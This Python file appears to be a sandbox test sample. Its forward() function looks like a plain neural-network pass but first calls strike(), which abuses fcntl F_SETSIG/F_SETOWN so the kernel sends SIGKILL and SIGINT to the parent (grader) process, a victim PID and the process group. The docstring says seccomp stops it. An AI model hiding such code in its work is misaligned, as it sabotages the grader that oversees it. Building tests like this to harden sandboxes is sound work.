"""Has the kernel send SIGKILL and SIGINT to others, as the signal of a pipe that can be read.

goal: ending
cell: forward
gets: passed
stopped by: seccomp
alone: hit
"""

import fcntl
import os
import signal
import time

import numpy as np

F_SETSIG, F_SETOWN_EX = 10, 15


def strike():
    for target in (os.getppid(), int("@VICTIM@"), -os.getppid()):
        for number in (signal.SIGKILL, signal.SIGINT):
            reader, writer = os.pipe()
            try:
                fcntl.fcntl(reader, F_SETSIG, number)
                fcntl.fcntl(reader, fcntl.F_SETOWN, target)
            except OSError:
                os.close(reader)
                continue
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
            os.write(writer, b"x")
    time.sleep(0.2)  # the grader's process and the victim are looked after by the test


def forward(params, X):
    strike()
    hidden = np.maximum(X @ params["W1"].T + params["b1"], 0)
    return hidden @ params["W2"].T + params["b2"], hidden
